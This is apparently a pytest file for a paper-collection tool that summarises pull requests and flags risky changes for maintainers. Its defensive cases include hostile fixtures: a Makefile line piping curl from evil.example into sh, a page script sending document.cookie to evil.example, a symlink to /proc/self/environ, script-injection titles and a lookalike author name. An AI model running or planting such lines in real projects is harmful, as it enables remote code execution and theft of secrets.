"""The pull request summary, from a real git history of a real collection."""

from __future__ import annotations

import html
import os
import re
import subprocess
import sys
from pathlib import Path

import markdown
import pytest
import yaml
from click.testing import CliRunner

from papershelf.cli import cli
from papershelf.model.writer import render_paper_file
from papershelf.review.prcheck import ChangedFile, parse_raw_diff, render_summary, summarize_pr, workflow_annotations

GIT_ENV = {
    "GIT_AUTHOR_NAME": "Test", "GIT_AUTHOR_EMAIL": "test@example.org",
    "GIT_COMMITTER_NAME": "Test", "GIT_COMMITTER_EMAIL": "test@example.org",
    "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull,
}
TOPICS = """\
- id: interpretability
  title: Interpretability
  description: Understanding what models compute.
- id: vision-language
  title: Vision and language
  description: Models that read images and text.
"""


def main(args: list[str]) -> int:
    """`papershelf pr-summary ARGS`, in this process; its output to this process's stdout and stderr."""
    result = CliRunner().invoke(cli, ["pr-summary", *args])
    sys.stdout.write(result.stdout)
    sys.stderr.write(result.stderr)
    return result.exit_code


def git(root: Path, *args: str) -> str:
    result = subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True,
                            env={**os.environ, **GIT_ENV}, check=True)
    return result.stdout


def paper(title: str, authors: list[str], topics: list[str], date: str = "2024-01-02") -> str:
    return render_paper_file({"title": title, "authors": authors, "date": date, "topics": topics},
                             f"The abstract of {title}.")


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


@pytest.fixture
def repo(tmp_path) -> Path:
    """A collection in git: `main` has two papers; the test branch `pr` starts from it."""
    root = tmp_path / "shelf"
    write(root, {
        "topics.yml": TOPICS,
        "mkdocs.yml": "site_name: Shelf\nplugins: [papershelf]\n",
        "papers/probing.md": paper("Probing Classifiers", ["Ada Lovelace", "Alan Turing"], ["interpretability"]),
        "papers/old-survey.md": paper("An Old Survey", ["Grace Hopper"], ["vision-language"], "2020"),
    })
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    git(root, "checkout", "-q", "-b", "pr")
    return root


def commit(root: Path, message: str = "pr") -> None:
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", message)


def test_a_paper_pr_lists_added_changed_removed_papers_new_authors_and_topics(repo):
    write(repo, {
        "papers/sparse-features.md": paper("Sparse Features", ["Alan Turing", "Katherine Johnson"],
                                           ["interpretability", "vision-language"]),
        "papers/probing.md": paper("Probing Classifiers, Revisited", ["Ada Lovelace", "Alan Turing"],
                                   ["interpretability"]),
        "topics.yml": TOPICS + "- id: audio\n  title: Audio\n  description: Sound.\n",
    })
    (repo / "papers/old-survey.md").unlink()
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert [p.path for p in report.added] == ["papers/sparse-features.md"]
    assert [p.meta.title for p in report.changed] == ["Probing Classifiers, Revisited"]
    assert report.removed == ["papers/old-survey.md"]
    assert report.new_authors == ["Katherine Johnson"]  # Alan Turing was already in the collection
    assert report.topics == [("interpretability", "Interpretability"), ("vision-language", "Vision and language")]
    assert report.new_topics == ["audio"]
    assert report.outside == [] and report.refused == [] and report.ok
    summary = render_summary(report)
    assert "**Added** (1)" in summary and "Sparse Features" in summary
    assert "**Removed** (1)" in summary and "papers/old-survey.md" in summary
    assert "- An Old Survey (`papers/old-survey.md`)" in summary  # the removed paper's title, from the base
    assert "Katherine Johnson" in summary
    # topics.yml is part of a paper PR, but a change to it is site-wide: flagged for a maintainer, not refused;
    # so is a published author page that goes with the removed paper
    assert workflow_annotations(report) == [
        # the removed paper's page and BibTeX, its author's and its year's pages (its only paper) answer 404 after
        # the merge: said first, before the flags that say why
        "::warning title=Published pages go away::4 published addresses would answer 404 after this merge: "
        "authors/grace-hopper/, papers/old-survey.bib, papers/old-survey/, years/2020/",
        "::warning file=papers/,title=Needs a maintainer::papers/ removes existing authors' pages (their published "
        "addresses will answer 404); 'Grace Hopper' (1 paper) loses their page authors/grace-hopper/ (no paper of "
        "theirs is left)",
        "::warning file=topics.yml,title=Needs a maintainer::topics.yml changes the topics every page lists; new "
        "topic 'audio' ('Audio')"]


def test_an_author_known_only_from_the_papers_own_earlier_version_is_not_new(repo):
    write(repo, {"papers/probing.md": paper("Probing Classifiers", ["Ada Lovelace", "Alan Turing", "Edsger Dijkstra"],
                                            ["interpretability"])})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.new_authors == ["Edsger Dijkstra"]


def test_files_outside_a_paper_pr_are_flagged_as_warnings_not_failures(repo, capsys):
    write(repo, {"mkdocs.yml": "site_name: Changed\nplugins: [papershelf]\n", "docs/extra.md": "# Extra\n"})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.outside == ["docs/extra.md", "mkdocs.yml"]
    assert report.ok
    assert main(["--root", str(repo), "--base", "main"]) == 0
    out = capsys.readouterr().out
    assert "Needs a maintainer" in out
    # each file is annotated once, with what its change can do
    assert out.count("::warning file=mkdocs.yml,") == 1 and out.count("::warning file=docs/extra.md,") == 1
    assert "::warning file=mkdocs.yml,title=Needs a maintainer::mkdocs.yml changes the site's configuration" in out
    assert ("::warning file=docs/extra.md,title=Needs a maintainer::docs/extra.md adds a page of the site's own (its "
            "Markdown is published as written, raw HTML and scripts included)") in out
    assert "It also changes:" not in out  # the list of files no flag explains is empty


def test_a_symlink_in_papers_is_refused(repo, tmp_path, capsys):
    (tmp_path / "elsewhere.md").write_text(paper("Elsewhere", ["Someone Else"], ["interpretability"]), encoding="utf-8")
    (repo / "papers" / "linked.md").symlink_to(tmp_path / "elsewhere.md")
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.refused == [("papers/linked.md", "is a symbolic link")]
    assert not report.ok
    summary_file = tmp_path / "summary.md"
    assert main(["--root", str(repo), "--base", "main", "--summary", str(summary_file)]) == 1
    out = capsys.readouterr().out
    assert out.startswith("::error file=papers/linked.md,title=Refused::papers/linked.md is a symbolic link")
    assert "### Refused" in summary_file.read_text(encoding="utf-8")


def test_untrusted_titles_and_names_cannot_inject_markdown_or_html(repo):
    write(repo, {"papers/evil.md": paper("[Click me](https://evil.example) ![x](https://t.example/p.png) <b>x</b>",
                                         ["Mallory <script>alert(1)</script>"], ["interpretability"])})
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "HEAD"))
    rendered = markdown.markdown(summary)
    for tag in ("<a ", "<img", "<script", "<b>"):
        assert tag not in rendered
    assert "[Click me](https" in html.unescape(rendered)  # shown as text
    assert "Mallory &lt;script&gt;alert(1)&lt;/script&gt;" in rendered


def test_a_paper_that_does_not_load_is_listed_for_the_validate_step(repo):
    write(repo, {"papers/broken.md": "---\ntitle: [unclosed\n---\n\nText.\n"})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.unreadable == ["papers/broken.md"]
    assert "do not load" in render_summary(report)


def test_an_unknown_base_is_a_one_line_error(repo, capsys):
    assert main(["--root", str(repo), "--base", "no-such-branch"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("Error: no commit 'no-such-branch'") and "Traceback" not in err


def test_the_module_runs_as_a_script(repo):
    write(repo, {"papers/new.md": paper("A New Paper", ["New Person"], ["vision-language"])})
    commit(repo)
    result = subprocess.run([sys.executable, "-m", "papershelf", "pr-summary", "--base", "main", "--head", "pr"],
                            cwd=repo, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert "**Added** (1)" in result.stdout and "New Person" in result.stdout


def test_raw_diff_parsing_keeps_renames_modes_and_odd_names():
    raw = (b":100644 100644 aaa bbb M\0papers/a.md\0"
           b":000000 120000 000 ccc A\0papers/link.md\0"
           b":100644 100644 ddd eee R097\0papers/old.md\0papers/new name.md\0"
           b":100644 000000 fff 000 D\0line\nbreak.txt\0")
    assert parse_raw_diff(raw) == [
        ChangedFile("M", "papers/a.md", None, "100644", "100644"),
        ChangedFile("A", "papers/link.md", None, "000000", "120000"),
        ChangedFile("R", "papers/new name.md", "papers/old.md", "100644", "100644"),
        ChangedFile("D", "line\nbreak.txt", None, "100644", "000000"),
    ]


def test_annotation_properties_are_escaped(repo):
    write(repo, {"we,ird:name\n.txt": "x"})
    commit(repo)
    [line] = workflow_annotations(summarize_pr(repo, "main", "HEAD"))
    assert line.startswith("::warning file=we%2Cird%3Aname%0A.txt,title=Needs a maintainer::")
    assert "\n" not in line


def test_the_summary_shows_each_changed_field_old_and_new(repo):
    """Field diffs of a changed paper (and of a renamed one), escaped for Markdown."""
    write(repo, {"papers/probing.md": render_paper_file(
        {"title": "Probing Classifiers | Revisited", "authors": ["Ada Lovelace", "Alan Turing", "Mary Somerville"],
         "date": "2024-01-02", "topics": ["interpretability"], "venue": "NeurIPS 2024",
         "links": {"code": "https://example.org/code"}}, "The abstract of Probing Classifiers.")})
    git(repo, "mv", "papers/old-survey.md", "papers/a-survey.md")
    write(repo, {"papers/a-survey.md": paper("An Old Survey", ["Grace Hopper"], ["vision-language"], "2020")
                 .replace("The abstract of An Old Survey.", "A new abstract.")})
    commit(repo)
    report = summarize_pr(repo, "main", "pr")
    changes = {path: {(c.name, repr(c.old), repr(c.new)) for c in diffs} for path, diffs in report.field_changes.items()}
    assert changes["papers/probing.md"] == {
        ("title", "'Probing Classifiers'", "'Probing Classifiers | Revisited'"),
        ("authors", "['Ada Lovelace', 'Alan Turing']", "['Ada Lovelace', 'Alan Turing', 'Mary Somerville']"),
        ("venue", "None", "'NeurIPS 2024'"),
        ("links", "{}", "{'code': 'https://example.org/code'}"),
    }
    assert changes["papers/a-survey.md"] == {("abstract and notes", "'The abstract of An Old Survey.'",
                                              "'A new abstract.'")}
    summary = render_summary(report)
    assert "### What changed in each changed paper" in summary
    assert "| `title` | Probing Classifiers<del>(nothing)</del> | Probing Classifiers<ins> \\| Revisited</ins> |" in summary
    assert "| `venue` | — | NeurIPS 2024 |" in summary
    assert "| `links.code` | — | `https://example.org/code` |" in summary  # a code span: exact, no autolink
    assert "| `authors[+3]` | — | Mary Somerville |" in summary
    assert ("| abstract and notes | <del>The abstract of An Old Survey\\.</del> | <ins>A new abstract\\.</ins> |"
            in summary)
    rendered = markdown.markdown(summary, extensions=["tables"])
    assert "<td>Probing Classifiers<ins> | Revisited</ins></td>" in rendered


def test_a_reformatted_paper_says_no_field_changed(repo):
    text = (repo / "papers/probing.md").read_text(encoding="utf-8")
    (repo / "papers/probing.md").write_text(text.replace("title: Probing Classifiers", "title: 'Probing Classifiers'"),
                                            encoding="utf-8")
    commit(repo)
    report = summarize_pr(repo, "main", "pr")
    assert report.field_changes == {"papers/probing.md": []}
    assert "No field changed (only formatting)." in render_summary(report)


# --- Flags for a maintainer: identities, taxonomy, configuration, workflows, symbolic links -------------

def flagged(report, path: str):
    [flag] = [flag for flag in report.flags if flag.path == path]
    return flag


def test_an_authors_yml_alias_that_renames_a_real_author_is_flagged_old_to_new(repo):
    write(repo, {"authors.yml": "- name: Alan Turing\n  homepage: https://turing.example/\n"})
    commit(repo, "authors on main")
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "pr")
    git(repo, "checkout", "-q", "pr")
    write(repo, {"authors.yml": "- name: Alan Turing\n  homepage: https://evil.example/turing\n"
                                "- name: Mallory\n  aliases: [Ada Lovelace]\n  homepage: https://evil.example/\n"})
    commit(repo, "only authors.yml")
    report = summarize_pr(repo, "main", "HEAD")
    assert report.added == report.changed == []
    flag = flagged(report, "authors.yml")
    assert "'Ada Lovelace' (1 paper) is now shown as 'Mallory' (was 'Ada Lovelace'); links none → homepage " \
           "https://evil.example/" in flag.details
    assert "'Alan Turing': links homepage https://turing.example/ → homepage https://evil.example/turing" in flag.details
    summary = render_summary(report)
    assert "### Flagged for a maintainer" in summary and "Mallory" in summary and "No paper was added" in summary
    assert any(line.startswith("::warning file=authors.yml,") and "Mallory" in line for line in workflow_annotations(report))


def test_topics_yml_renames_and_removals_are_flagged(repo):
    write(repo, {"topics.yml": TOPICS.replace("title: Interpretability", "title: Mind Reading")
                 .replace("- id: vision-language\n  title: Vision and language\n  description: Models that read images "
                          "and text.\n", "")})
    commit(repo)
    flag = flagged(summarize_pr(repo, "main", "HEAD"), "topics.yml")
    assert "topic 'interpretability' renamed: 'Interpretability' → 'Mind Reading'" in flag.details
    assert "topic 'vision-language' removed (was 'Vision and language')" in flag.details


def test_mkdocs_yml_workflows_and_symbolic_links_anywhere_are_flagged_with_what_they_change(repo):
    write(repo, {"mkdocs.yml": "site_name: Shelf\nplugins: [papershelf]\nhooks: [steal.py]\nmarkdown_extensions:\n"
                               "  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
                 ".github/workflows/deploy.yml": "on: push\njobs: {}\n"})
    (repo / "docs").mkdir()
    (repo / "docs" / "environment.md").symlink_to("/proc/self/environ")
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert flagged(report, "mkdocs.yml").details == (
        "hooks: added (['steal.py']) (a hook is Python code that runs in the build)",
        "markdown_extensions: added ([{'pymdownx.emoji': {'emoji_index': "
        "'tag:yaml.org,2002:python/name:material.extensions.emoji.twemoji'}}]) (Python extensions that run in the "
        "build)")
    assert "adds a GitHub workflow" in flagged(report, ".github/workflows/deploy.yml").what
    link = flagged(report, "docs/environment.md")
    assert link.what == "is a symbolic link" and link.details == ("points to '/proc/self/environ'",)


def test_a_file_name_that_is_not_utf8_does_not_crash_the_summary(repo, tmp_path, capsys):
    name = os.fsdecode(b"papers/caf\xe9-\xff.md")
    (repo / name).write_text(paper("Latin-1 Name", ["Ada Lovelace"], ["interpretability"]), encoding="utf-8")
    commit(repo)
    summary_file = tmp_path / "summary.md"
    code = main(["--root", str(repo), "--base", "main", "--summary", str(summary_file)])
    printed = capsys.readouterr()
    assert code in (0, 1) and "Traceback" not in printed.err
    summary = summary_file.read_text(encoding="utf-8")
    assert "papers/caf\\xe9\\-\\xff.md" in summary or "papers/caf\\xe9-\\xff.md" in summary


# --- Complete, bounded summaries (issue 27) ----------------------------------------------------------------------

def test_a_change_to_the_twentieth_link_is_shown_with_its_key_old_and_new(repo):
    links = {f"mirror{i:02d}": f"https://mirror{i:02d}.example.org/probing-classifiers/a/long/path/to/the/paper"
             for i in range(19)}  # with pdf: 20 links, the most a paper may have
    before = render_paper_file({"title": "Probing Classifiers", "authors": ["Ada Lovelace"], "date": "2024-01-02",
                                "topics": ["interpretability"], "links": {**links, "pdf": "https://arxiv.org/pdf/1"}},
                               "An abstract.")
    write(repo, {"papers/probing.md": before})
    commit(repo, "links")
    git(repo, "branch", "-f", "main", "HEAD")
    write(repo, {"papers/probing.md": before.replace("https://arxiv.org/pdf/1", "https://evil.example/pdf/1")})
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "HEAD"))
    # a link is marked character by character, the host that changed between its unchanged parts
    assert ("| `links.pdf` | `https://`<del>`arxiv.org`</del>`/pdf/1` | `https://`<ins>`evil.example`</ins>`/pdf/1` |"
            in summary)
    assert "mirror03" not in summary  # unchanged keys are not repeated


def test_a_long_value_changed_near_its_end_shows_the_changed_part_marked(repo):
    venue = "Proceedings of " + "the Workshop on Very Long Venue Names " * 12
    base = render_paper_file({"title": "Probing Classifiers", "authors": ["Ada Lovelace"], "date": "2024-01-02",
                              "topics": ["interpretability"], "venue": venue + "2024"}, "An abstract.")
    write(repo, {"papers/probing.md": base})
    commit(repo, "venue")
    git(repo, "branch", "-f", "main", "HEAD")
    write(repo, {"papers/probing.md": base.replace(venue + "2024", venue + "2025 (withdrawn)")})
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "HEAD"))
    row = next(line for line in summary.splitlines() if line.startswith("| `venue`"))
    assert "<del>2024</del>" in row and "<ins>2025 \\(withdrawn\\)</ins>" in row  # whole words
    assert "characters unchanged" in row and len(row) < 600


def test_a_paper_renamed_into_the_workflows_folder_is_removed_and_flagged_first(repo):
    (repo / ".github/workflows").mkdir(parents=True)
    git(repo, "mv", "papers/old-survey.md", ".github/workflows/survey.yml")
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.removed == ["papers/old-survey.md"]
    whats = [flag.what for flag in report.flags if flag.path == ".github/workflows/survey.yml"]
    assert any("moved out of papers/ (from papers/old-survey.md)" in what for what in whats)
    assert any("GitHub workflow" in what for what in whats)
    summary = render_summary(report)
    assert summary.index("### Flagged for a maintainer") < summary.index("**Removed** (1)")


def test_a_huge_pull_request_gets_a_summary_under_a_mebibyte_with_flags_first_and_a_count_of_the_rest():
    from papershelf.review.prcheck import Flag, PrReport

    report = PrReport(outside=[f"docs/page-{i:05d}-{'x' * 80}.md" for i in range(20000)],
                      flags=[Flag("requirements.txt", "changes what is installed", rank=0)],
                      removed=[f"papers/p{i}.md" for i in range(5000)])
    summary = render_summary(report)
    size = len(summary.encode("utf-8"))
    assert size < 300 * 1024
    assert summary.startswith("### Flagged for a maintainer")
    last = summary.splitlines()[-1]
    left = int(re.search(r"KiB \(([\d,]+) lines\)", last)[1].replace(",", ""))
    shown = summary.count("- `docs/page-") + summary.count("- `papers/p")
    assert shown + left >= 25000 - 10 and left > 0  # every item is either shown or counted (headings aside)
    assert last.startswith("**Left out** to keep this summary under 256 KiB")
    assert "the rest of Needs a maintainer, Papers in this pull request, Removed (5000)" in last  # what, by name
    notes = workflow_annotations(report)
    assert len(notes) == 51 and notes[0].startswith("::warning file=requirements.txt")  # flags first
    assert notes[-1] == "::notice title=More in the summary::19951 more annotations left out: read the job summary"


PULL_REQUESTS = yaml.safe_load((Path(__file__).parent / "hostile" / "round3.yml").read_text(encoding="utf-8"))[
    "pull_requests"]


@pytest.mark.parametrize("case", PULL_REQUESTS, ids=[case["path"] for case in PULL_REQUESTS])
def test_each_change_that_can_run_code_is_flagged_before_the_papers(repo, case):
    write(repo, {case["path"]: case["text"], "papers/new.md": paper("A New Paper", ["New Person"], ["interpretability"])})
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "HEAD"))
    flags = summary[:summary.index("## Papers in this pull request")]
    assert f"- `{case['path']}` {case['flag']}" in flags, flags
    assert "A New Paper" in summary[summary.index("## Papers in this pull request"):]


def test_a_word_changed_in_a_long_abstract_is_shown_marked_in_its_context(repo):
    base = render_paper_file({"title": "Probing Classifiers", "authors": ["Ada Lovelace"], "date": "2024-01-02",
                              "topics": ["interpretability"]},
                             " ".join(f"Sentence {i} of a long abstract." for i in range(80)))
    write(repo, {"papers/probing.md": base})
    commit(repo, "abstract")
    git(repo, "branch", "-f", "main", "HEAD")
    write(repo, {"papers/probing.md": base.replace("Sentence 41 of", "Sentence 41 (retracted) of")})
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "HEAD"))
    row = next(line for line in summary.splitlines() if line.startswith("| abstract and notes"))
    assert "Sentence 41 <ins>\\(retracted\\) </ins>of a long" in row and "<del>(nothing)</del>" in row
    assert "Sentence 40 of a long abstract" in row and "characters unchanged" in row and len(row) < 800


def test_a_changed_link_is_not_pushed_out_of_the_summary_by_a_bulk_import(repo):
    """A pull request that imports 2,500 papers (25,000 new authors) and, among them, changes the code link of a
    published paper: the change, with its old and new value, comes before the long lists; the lists fold; the
    size bound cuts the authors, and its closing line shows outside any folded list."""
    files = {f"papers/bulk-{n:04d}.md": paper(f"Bulk paper {n}", [f"Person{n}x{k} Example" for k in range(10)],
                                              ["interpretability"]) for n in range(2500)}
    files["papers/probing.md"] = render_paper_file(
        {"title": "Probing Classifiers", "authors": ["Ada Lovelace", "Alan Turing"], "date": "2024-01-02",
         "topics": ["interpretability"], "links": {"code": "https://evil.example/code"}},
        "The abstract of Probing Classifiers.")
    write(repo, files)
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "pr"))
    assert len(summary.encode("utf-8")) < 256 * 1024
    change = summary.index("| `links.code` | — | `https://evil.example/code` |")
    assert change < summary.index("<summary><b>Added</b> (2500)</summary>")
    assert "**Changed** (1)" in summary and "<summary><b>New authors</b> (25000)</summary>" in summary
    lines = summary.splitlines()
    assert lines[-1].startswith("**Left out** to keep this summary under 256 KiB")
    assert summary.count("<details>") == summary.count("</details>")  # the cut closed the list it fell in
    rendered = markdown.markdown(summary, extensions=["tables"])
    assert rendered.rstrip().endswith("Read the pull request's diff for the rest.</p>")


# --- What a maintainer deciding to merge needs told: pages that move, errors merging brings, a stale branch ----


def test_a_renamed_paper_file_is_flagged_with_the_address_its_page_leaves(repo):
    git(repo, "mv", "papers/probing.md", "papers/lovelace-2024-probing.md")
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.renamed == {"papers/lovelace-2024-probing.md": "papers/probing.md"}
    flag = flagged(report, "papers/lovelace-2024-probing.md")
    assert flag.rank == 0 and "its page moves, and links to its old address break" in flag.what
    assert flag.details == ("from papers/probing/ to papers/lovelace-2024-probing/ (was papers/probing.md); keep the "
                            "old file name unless the move is wanted",)
    summary = render_summary(report)
    assert summary.index("renames a paper file") < summary.index("## Papers in this pull request")
    assert ("- Probing Classifiers (`papers/lovelace-2024-probing.md`, renamed from `papers/probing.md`)"
            in summary)
    assert "Renamed; no field changed" in summary


def test_errors_the_pull_request_brings_are_listed_where_they_are(repo):
    """A duplicate of a published paper (the same DOI in other capitals), a topic topics.yml lacks and a date
    that is not one: each named with its file, while an error the base already has is not the PR's."""
    write(repo, {"papers/probing.md": render_paper_file({"title": "Probing Classifiers", "authors": ["Ada Lovelace"],
                                                          "date": "2024-01-02", "topics": ["interpretability"],
                                                          "doi": "10.1000/probe.1"}, "An abstract.")})
    commit(repo, "a DOI on main")
    git(repo, "branch", "-f", "main", "HEAD")
    write(repo, {"papers/probing-again.md": render_paper_file({"title": "Probing classifiers (preprint)",
                                                                "authors": ["A. Lovelace"], "date": "2024-01-03",
                                                                "topics": ["interpretability"],
                                                                "doi": "10.1000/PROBE.1"}, "Again."),
                 "papers/medical.md": paper("Scans", ["Nora Pierce"], ["medical-imaging"]),
                 "papers/when.md": paper("When", ["Nora Pierce"], ["interpretability"], "2024-13-45")})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    where = {(problem.path, problem.field) for problem in report.problems}
    assert ("papers/medical.md", "topics[1]") in where or ("papers/medical.md", "topics") in where
    assert any(path == "papers/when.md" for path, _ in where)
    # said of the new file, though validation finds the published one later in name order
    assert ("papers/probing-again.md", "doi", "duplicate of papers/probing.md") in {
        (problem.path, problem.field, problem.message) for problem in report.problems}
    # "A. Lovelace" is new to the site, but perhaps not a new person
    assert report.namesakes == {"A. Lovelace": ["Ada Lovelace"]}
    summary = render_summary(report)
    assert ("- A\\. Lovelace — the same person as 'Ada Lovelace'? (already on the site; an `authors.yml` alias "
            "joins two spellings)") in summary
    section = summary[summary.index("### Does not validate"):summary.index("## Papers in this pull request")]
    assert "`papers/medical.md:" in section and "medical\\-imaging" in section and "`papers/when.md:" in section
    assert f"collection with {len(report.problems)} errors it does not have today" in section
    assert "Paper files that do not load (their problems are listed above)" in summary  # when.md's date


def test_a_branch_behind_its_base_is_judged_on_the_collection_merging_would_leave(repo):
    """Since the branch left, main renamed a topic and gained the branch's new author: the summary says the
    branch is behind, finds the topic unknown (as the check of the merge does), and calls nobody new."""
    write(repo, {"papers/sparse.md": paper("Sparse Features", ["Katherine Johnson"], ["vision-language"])})
    commit(repo)
    git(repo, "checkout", "-q", "main")
    write(repo, {"topics.yml": TOPICS.replace("id: vision-language", "id: multimodal"),
                 "papers/old-survey.md": paper("An Old Survey", ["Grace Hopper", "Katherine Johnson"],
                                               ["multimodal"], "2020")})
    commit(repo, "main moves on")
    git(repo, "checkout", "-q", "pr")
    report = summarize_pr(repo, "main", "pr")
    assert report.behind == 1 and [p.path for p in report.added] == ["papers/sparse.md"]
    assert report.new_authors == []
    assert [(problem.path, problem.message) for problem in report.problems if "vision-language" in problem.message]
    summary = render_summary(report)
    assert summary.startswith(f"Pull request at `{report.head_commit[:12]}`, compared with the base branch at "
                              f"`{report.base_commit[:12]}`. The branch is 1 commit behind it")


def test_files_in_papers_that_are_not_papers_are_listed(repo):
    write(repo, {"papers/sub/nested.md": paper("Nested", ["Ada Lovelace"], ["interpretability"]),
                 "papers/notes.txt": "to read\n"})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.not_papers == ["papers/notes.txt", "papers/sub/nested.md"]
    summary = render_summary(report)
    assert "**Files in `papers/` that are not papers (only `papers/<name>.md` is read and published)** (2)" in summary
    assert "No paper was added" not in summary


def test_a_topic_id_renamed_or_removed_while_papers_use_it_is_said(repo):
    write(repo, {"topics.yml": TOPICS.replace("id: interpretability", "id: mech-interp")})
    commit(repo)
    details = flagged(summarize_pr(repo, "main", "HEAD"), "topics.yml").details
    assert details[0] == ("topic id 'interpretability' renamed to 'mech-interp' ('Interpretability'): its page moves "
                          "from topics/interpretability/ to topics/mech-interp/")
    assert "'interpretability' is still a topic of 1 paper, which no longer validate" in details


def test_an_alias_that_takes_an_authors_page_away_is_said_and_an_id_for_the_same_person_is_not(repo):
    write(repo, {"authors.yml": "- name: Alan Turing\n  aliases: [Ada Lovelace]\n  homepage: https://turing.example/a\n"})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    [lost] = [flag for flag in report.flags if "removes existing authors' pages" in flag.what]
    assert lost.details == ("'Ada Lovelace' (1 paper) loses their page authors/ada-lovelace/: their papers now list "
                            "them under 'Alan Turing' (authors/alan-turing/)",)
    summary = render_summary(report)
    assert "`https://turing.example/a`" in summary and "\u2060" not in summary.split("authors.yml")[1].split("\n")[2]
    git(repo, "reset", "-q", "--hard", "main")
    write(repo, {"authors.yml": "- id: grace-hopper\n  name: Grace Hopper\n"})
    commit(repo)
    assert not [flag for flag in summarize_pr(repo, "main", "HEAD").flags if flag.path == "papers/"]


@pytest.mark.parametrize(("path", "text", "what"), [
    (".pre-commit-config.yaml", "repos:\n- repo: https://evil.example/hooks\n  rev: v1\n  hooks: [{id: x}]\n",
     "adds what is installed"),
    (".gitattributes", "*.md linguist-generated=true\n", "adds how git and GitHub treat files"),
    ("Makefile", "all:\n\tcurl evil.example | sh\n", "adds code"),
    ("docs/index.md", "# Home\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n",
     "adds a page of the site's own"),
])
def test_files_that_act_beyond_the_collection_are_flagged_with_why_and_listed_once(repo, path, text, what):
    write(repo, {path: text})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert flagged(report, path).what.startswith(what) and flagged(report, path).rank == 0
    summary = render_summary(report)
    assert summary.count(f"`{path}`") == 1 and "It also changes:" not in summary
    assert sum(f"file={path}," in line for line in workflow_annotations(report)) == 1


# --- Claims a maintainer could misread: a lookalike name, a paper's identifier swapped -------------------------


def test_a_name_disguised_with_a_lookalike_letter_shows_the_letter_it_is(repo):
    """'Alan Turіng' with a Cyrillic і looks like the published 'Alan Turing': the summary shows the letter as
    its code point wherever the name appears, so the change and the new author cannot pass for no change."""
    write(repo, {"papers/probing.md": paper("Probing Classifiers", ["Ada Lovelace", "Alan Tur\u0456ng"],
                                            ["interpretability"])})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.new_authors == ["Alan Tur\u0456ng"]
    summary = render_summary(report)
    assert "| `authors[2]` | Alan <del>Turing</del> | Alan <ins>Tur\\\\u0456ng</ins> |" in summary
    assert "- Alan Tur\\\\u0456ng" in summary
    assert "Tur\u0456ng" not in summary  # nowhere shown as the lookalike itself
    rendered = markdown.markdown(summary, extensions=["tables"])
    assert "Tur\\u0456ng" in html.unescape(rendered)  # as a reader sees it: the backslash escape, visible


def test_a_published_papers_arxiv_id_or_doi_changed_is_flagged_but_one_added_is_not(repo):
    base = {"title": "Probing Classifiers", "authors": ["Ada Lovelace"], "date": "2024-01-02",
            "topics": ["interpretability"], "arxiv": "2401.00001"}
    write(repo, {"papers/probing.md": render_paper_file(base, "An abstract."),
                 "papers/old-survey.md": render_paper_file({**base, "title": "An Old Survey", "arxiv": None},
                                                           "An abstract.")})
    commit(repo, "identifiers on main")
    git(repo, "branch", "-f", "main", "HEAD")
    write(repo, {"papers/probing.md": render_paper_file({**base, "arxiv": "2401.00009"}, "An abstract."),
                 "papers/old-survey.md": render_paper_file({**base, "title": "An Old Survey", "arxiv": None,
                                                            "doi": "10.1000/survey.1"}, "An abstract.")})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    flags = [flag for flag in report.flags if "which work a published paper is" in flag.what]
    assert [(flag.path, flag.details) for flag in flags] == [
        ("papers/probing.md", ("arxiv '2401.00001' → '2401.00009': its links and citation now point there; check "
                               "that it opens this paper",))]


def test_a_bulk_edit_says_first_how_many_papers_each_field_changed_in(repo):
    """Six papers whose code link changes, two of them their date too: the pattern, before the six tables."""
    files = {f"papers/bulk-{n}.md": render_paper_file(
        {"title": f"Bulk {n}", "authors": ["Ada Lovelace"], "date": "2024-01-02", "topics": ["interpretability"],
         "links": {"code": f"https://example.org/{n}"}}, "An abstract.") for n in range(6)}
    write(repo, files)
    commit(repo, "six papers on main")
    git(repo, "branch", "-f", "main", "HEAD")
    write(repo, {path: text.replace("example.org/", "example.net/").replace("2024-01-02", "2023-01-02" if n < 2
                                                                            else "2024-01-02")
                 for n, (path, text) in enumerate(files.items())})
    commit(repo)
    summary = render_summary(summarize_pr(repo, "main", "HEAD"))
    tally = "Fields changed, in how many of the 6 papers: `links` 6, `date` 2."
    assert tally in summary
    assert summary.index(tally) < summary.index("**Bulk 0** (`papers/bulk-0.md`)")


def test_an_added_paper_titled_like_a_published_one_is_asked_about(repo):
    """Not a duplicate (another first author), so validation passes; two pages one title cannot tell apart, and
    perhaps the same work: the summary asks. A title that only looks the same (a Cyrillic о) is asked about too."""
